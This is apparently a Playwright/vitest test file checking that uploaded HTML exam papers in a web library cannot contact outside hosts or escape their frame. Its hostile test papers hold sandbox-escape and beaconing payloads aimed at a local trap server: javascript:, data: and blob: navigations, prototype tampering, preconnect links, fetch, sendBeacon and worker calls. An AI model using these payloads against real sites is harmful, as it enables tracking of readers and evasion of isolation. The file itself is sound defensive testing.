import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { pressTool } from '#test/support/reader.ts';
import { api, pages } from '#contract/addresses.ts';
import { findChromium } from '#test/support/browser.ts';
import { openConnectionTrap, type ConnectionTrap } from '#test/support/connection-trap.ts';
import { whyNoFirefox, whyNoWebKit } from '#test/support/find-other-browsers.ts';
import { ids, openLibrarian, type Librarian } from '#test/support/library.ts';
import { openFirefox, openWebKit, type OtherBrowser } from '#test/support/other-browsers.ts';
import { countPrints, prints } from '#test/support/prints.ts';
import { openTestServer, type TestServer } from '#test/support/server.ts';
import { casesOf, isOnlyInSweep } from '#test/support/sweeps.ts';

const place = { facultyId: 'csit', semesterId: '1', subject: 'C Programming' };
const papers = pages.papers('csit', '1', 'c-programming');
/** Longer than every frame and connection of a hostile paper takes when nothing stops it: ten times as long. */
const paperMs = 1500;

let server: TestServer;
let librarian: Librarian;
let context: BrowserContext;
let profile: string;
let trap: ConnectionTrap;

beforeAll(async () => {
  server = await openTestServer({ withPages: true });
  librarian = await openLibrarian(server.url);
  trap = await openConnectionTrap();
  profile = await mkdtemp(path.join(tmpdir(), 'examshelf-profile-'));
  // Chromium only preconnects with a persistent profile, and not as its headless shell.
  context = await chromium.launchPersistentContext(profile, {
    executablePath: findChromium()!,
    args: ['--no-sandbox', '--disable-gpu', '--no-first-run'],
  });
});

afterAll(async () => {
  await context?.close();
  await trap?.[Symbol.asyncDispose]();
  await server?.[Symbol.asyncDispose]();
  await rm(profile, { recursive: true, force: true });
});

/** Code by which a script in any frame sends a message to the outermost page. */
const child = (name: string) =>
  `<script>top.postMessage({ said: '${name}: ' + typeof RTCPeerConnection }, '*')</script>`;
/** A text within a script. It contains no tag, so the frame leaves it unchanged. */
const literal = (text: string) => JSON.stringify(text).replaceAll('<', String.raw`\u003c`);
/** HTML as the value of an attribute, which contains no tag either. */
const quoted = (html: string) => html.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
const begin = `top.postMessage({ said: 'begun' }, '*')`;

async function publish(html: string, name: string): Promise<void> {
  const page = Buffer.from(`<!doctype html><html><head><title>${name}</title></head><body>${html}</body></html>`);
  await librarian.upload(`${name}.html`, page, `${name}-file`);
  await librarian.publish('paper', { ...place, title: name, year: 2024, fileId: `${name}-file` }, name);
}

/** The address at which a reader opens the paper. */
const addressOf = (name: string) => `${server.url}${papers}?open=${name}`;

/** Publishes the paper, opens it as a reader does, and returns the messages of its scripts, and the page. */
async function read(html: string, name: string): Promise<{ said: string[]; page: Page; connections: number }> {
  await publish(html, name);
  const page = await context.newPage();
  await page.addInitScript((ms) => {
    const said: string[] = [];
    Object.assign(window, { said });
    addEventListener('message', ({ data }) => {
      if (data?.said === 'begun') setTimeout(() => said.push('end'), ms);
      else if (typeof data?.said === 'string') said.push(data.said);
    });
  }, paperMs);
  const before = trap.connections;
  await page.goto(addressOf(name));
  const heard = () => page.evaluate(() => (window as unknown as { said: string[] }).said);
  await expect.poll(heard).toContain('end');
  return { said: await heard(), page, connections: trap.connections - before };
}

test('a paper cannot reveal its reader’s address: no tag that connects remains in it, and no frame that could', async () => {
  const link = `<link rel="preconnect" href="${trap.url}"><link rel="dns-prefetch" href="${trap.url}"><a ping="${trap.url}" href="#x">x</a>`;
  const paper = `${link}
    <h1>Hostile paper</h1>
    <iframe srcdoc="${quoted(link)}"></iframe>
    <iframe srcdoc="${quoted(child('markup'))}"></iframe>
    <iframe src="javascript:top.postMessage({ said: 'javascript: ' + typeof RTCPeerConnection }, '*')"></iframe>
    <object data="javascript:top.postMessage({ said: 'object' }, '*')"></object>
    <embed src="javascript:top.postMessage({ said: 'embed' }, '*')">
    <object data="data:text/html,${encodeURIComponent(child('data'))}"></object>
    <div><template shadowrootmode="closed"><iframe srcdoc="${quoted(child('declared'))}"></iframe></template></div>
    <script>
      const say = (words) => top.postMessage({ said: words }, '*');
      for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel', 'RTCIceTransport', 'WebTransport', 'WebSocket'])
        if (typeof window[name] !== 'undefined') say(name + ' is there');
      // A guard that a script could change would not protect.
      for (const [owner, name] of [[Element, 'remove'], [Document, 'querySelector'], [DocumentFragment, 'querySelector'],
        [MutationObserver, 'observe'], [MutationObserver, 'takeRecords'], [RegExp, 'exec'], [Node, 'removeChild'], [Function, 'call'], [Function, 'bind']])
        try { owner.prototype[name] = () => null } catch {}
      try { RegExp.prototype[Symbol.replace] = (text) => text } catch {}
      Object.defineProperty(RegExp.prototype, 'flags', { get: () => '' });
      const tries = {
        element() { const frame = document.createElement('iframe'); frame.srcdoc = ${literal(child('element'))}; document.body.append(frame); },
        blank() { const frame = document.createElement('iframe'); document.body.append(frame); say('blank: ' + typeof frame.contentWindow.RTCPeerConnection); },
        html() { const box = document.createElement('div'); box.innerHTML = ${literal(`<iframe srcdoc="${quoted(child('html'))}"></iframe>`)}; document.body.append(box); },
        shadow() { const box = document.createElement('div'); document.body.append(box); box.attachShadow({ mode: 'closed' }).innerHTML = ${literal(`<iframe srcdoc="${quoted(child('shadow'))}"></iframe>`)}; },
        unsafe() { const box = document.createElement('div'); document.body.append(box); box.setHTMLUnsafe(${literal(`<div><template shadowrootmode="closed"><iframe srcdoc="${quoted(child('unsafe'))}"></iframe></template></div>`)}); },
        svg() { const box = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); box.innerHTML = ${literal(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="${quoted(child('svg'))}"></iframe></foreignObject>`)}; document.body.append(box); },
        link() { const link = document.createElement('link'); link.rel = 'preconnect'; link.href = '${trap.url}'; document.head.append(link); },
        worker() { new Worker(URL.createObjectURL(new Blob(['fetch("${trap.url}")']))); },
        popup() { if (open('${trap.url}')) say('popup'); },
        fetch() { fetch('${trap.url}').catch(() => {}); navigator.sendBeacon('${trap.url}', 'x'); new Image().src = '${trap.url}/x.png'; new EventSource('${trap.url}'); },
        rules() { const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.text = '{"prefetch":[{"urls":["${trap.url}/p"],"eagerness":"immediate"}]}'; document.head.append(rules); },
        write() { document.write(${literal(`<div><template shadowrootmode="closed"><iframe srcdoc="${quoted(child('written'))}"></iframe></template></div><link rel="preconnect" href="${trap.url}">`)}); },
      };
      for (const name in tries) try { tries[name]() } catch {}
      ${begin}
    </script>`;
  const { said, page, connections } = await read(paper, 'hostile');
  expect({ said, connections }).toEqual({ said: ['end'], connections: 0 });
  expect(page.frames()).toHaveLength(2);
  await page.frameLocator('iframe').getByRole('heading', { name: 'Hostile paper' }).waitFor();
  await page.close();
});

/** Ways to navigate the frame to a document whose window has everything again. */
const leavings = {
  script: `location = 'javascript:' + ${literal(`'${child('script')}'`)}`,
  link: `const a = document.createElement('a'); a.href = 'javascript:' + ${literal(`'${child('link')}'`)}; document.body.append(a); a.addEventListener('click', (event) => event.stopPropagation()); a.click()`,
  blob: `location = URL.createObjectURL(new Blob([${literal(child('blob'))}], { type: 'text/html' }))`,
  data: `location = 'data:text/html,' + ${literal(encodeURIComponent(child('data')))}`,
};

test.skipIf(isOnlyInSweep('journeys'))(
  'a paper cannot navigate to a page in which it could connect, nor to another site',
  async () => {
    const before = trap.connections;
    const all = Object.entries({ ...leavings, away: `location = '${trap.url}'` });
    // One after the other: the browser may throttle a page in the background.
    const found: Awaited<ReturnType<typeof read>>[] = [];
    for (const [name, script] of all)
      found.push(await read(`<script>${begin}; setTimeout(() => { ${script} })</script>`, name));
    // A script address may run, in the window that the guard has changed.
    const said = found.flatMap((each) => each.said).filter((each) => each !== 'end' && !each.endsWith(': undefined'));
    expect({ said, connections: trap.connections - before }).toEqual({ said: [], connections: 0 });
    await Promise.all(found.map(({ page }) => page.close()));
  },
);

test('a paper cannot connect through the document that it sends to print', async () => {
  await using heard = await openConnectionTrap();
  const link = `<link rel="preconnect" href="${heard.url}">`;
  const sent = literal(`<p>Printed</p>${link}<iframe srcdoc="${quoted(link)}"></iframe>`);
  const script = `addEventListener('message', ({ data }) => data.ask === 'print' && parent.postMessage({ frame: 'print', html: ${sent} }, '*'))`;
  await publish(`<script>${script}</script>`, 'printing');
  const page = await context.newPage();
  await countPrints(page);
  await page.goto(addressOf('printing'));
  await pressTool(page, 'Print');
  await expect.poll(() => prints(page)).toEqual(['Printed']);
  await connectAhead(page);
  expect(heard.connections).toBe(0);
  await page.close();
});

/** Waits until the browser has preconnected for a link of our own page. Connections of the paper came before. */
async function connectAhead(browser: Pick<OtherBrowser, 'evaluate'>): Promise<void> {
  await using trap = await openConnectionTrap();
  await browser.evaluate(
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: '${trap.url}' }))`,
  );
  await expect.poll(() => trap.connections).toBeGreaterThan(0);
}

/** Opens Chromium without `Connection-Allowlist`, which reports itself as such a browser. */
async function openOlderChromium(): Promise<OtherBrowser> {
  const page = await context.newPage();
  await page.addInitScript(() => Reflect.deleteProperty(Navigator.prototype, 'userAgentData'));
  await page.route(/\/(?:paper-frame|preview)/, async (route) => {
    // Playwright does not know these headers, which make a file a page.
    const asked = { ...route.request().headers(), 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' };
    const response = await route.fetch({ headers: asked });
    const { 'connection-allowlist': _, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });
  return {
    goto: async (address) => void (await page.goto(address)),
    evaluate: (expression) => page.evaluate(expression),
    title: () => page.title(),
    press: (x, y) => page.mouse.click(x, y),
    [Symbol.asyncDispose]: () => page.close(),
  };
}

/** Browsers that connect for a link made by a script. */
const others = [
  { name: 'an older Chromium', id: 'chromium', missing: null, open: openOlderChromium },
  { name: 'Firefox', id: 'firefox', missing: whyNoFirefox(), open: openFirefox },
  { name: 'WebKit', id: 'webkit', missing: whyNoWebKit(), open: openWebKit },
];

test.for(casesOf('browsers', others, ({ id }) => id === 'chromium'))(
  'in $name a paper reveals nothing to its author until the reader runs its scripts',
  async ({ id, missing, open }, { skip }) => {
    skip(missing !== null, missing ?? '');
    await using browser = await open();
    await using heard = await openConnectionTrap();
    const link = `<link rel="preconnect" href="${heard.url}">`;
    const connect = `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: '${heard.url}' }))`;
    const silent = `<meta http-equiv="refresh" content="0;url=${heard.url}">${link}<iframe srcdoc="${quoted(link)}"></iframe>`;
    // Links for the pointer, each 40 px high.
    const rectangle = '<rect width="300" height="40"/>';
    const links = [
      `<a href="${heard.url}" style="display: block; height: 40px">x</a>`,
      `<svg><a xlink:href="${heard.url}">${rectangle}</a></svg>`,
      `<svg><a href="#x"><set attributeName="href" to="${heard.url}"/>${rectangle}</a></svg>`,
      `<img usemap="#map" width="300" height="40" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="map"><area shape="default" href="${heard.url}"></map>`,
    ].join('');
    const style = '<style>body { margin: 0 } svg, img { display: block; width: 300px; height: 40px }</style>';
    await publish(
      `${style}${links}${silent}<svg onload="${quoted(connect)}"></svg><script>${connect}</script>`,
      `telling-${id}`,
    );
    const isThere = (selector: string) => browser.evaluate(`document.querySelector('${selector}') !== null`);
    const frame = `document.querySelector('iframe[data-shown]')`;
    const button = '.paper-dialog-scripts button';

    // Nothing runs at its own address.
    await browser.goto(server.url + api.filePreview(ids, `telling-${id}-file`));
    expect(await browser.title()).toBe(`telling-${id}`);
    await browser.goto(addressOf(`telling-${id}`));
    await expect.poll(() => isThere('iframe[data-shown]')).toBe(true);
    // A frame that loads again receives the paper again.
    await browser.evaluate(
      `new Promise((resolve) => { addEventListener('message', ({ data }) => data.frame === 'shown' && resolve('')); ${frame}.src += '' })`,
    );
    const [left = 0, top = 0] = (await browser.evaluate(
      `(({ left, top }) => [left, top])(${frame}.getBoundingClientRect())`,
    )) as number[];
    for (let y = 20; y < 160; y += 40) await browser.press(Math.round(left) + 100, Math.round(top) + y);
    await connectAhead(browser);
    expect(heard.connections).toBe(0);

    // This browser does connect once the scripts run.
    await browser.evaluate(`document.querySelector('${button}').click()`);
    await expect.poll(() => heard.connections).toBeGreaterThan(0);
    await expect.poll(() => isThere('iframe[data-shown]')).toBe(true);
    expect(await isThere(button)).toBe(false);
  },
);

test('a paper opened at its own address connects to nobody', async () => {
  const html = `<!doctype html><link rel="preconnect" href="${trap.url}"><h1>Read me</h1><link rel="dns-prefetch" href="${trap.url}"><img src="${trap.url}/x.png">`;
  await librarian.upload('plain.html', Buffer.from(html), 'plain-file');
  const page = await context.newPage();
  const before = trap.connections;
  await page.goto(server.url + api.filePreview(ids, 'plain-file'), { waitUntil: 'networkidle' });
  await page.getByRole('heading', { name: 'Read me' }).waitFor();
  expect(trap.connections - before).toBe(0);
  await page.close();
});
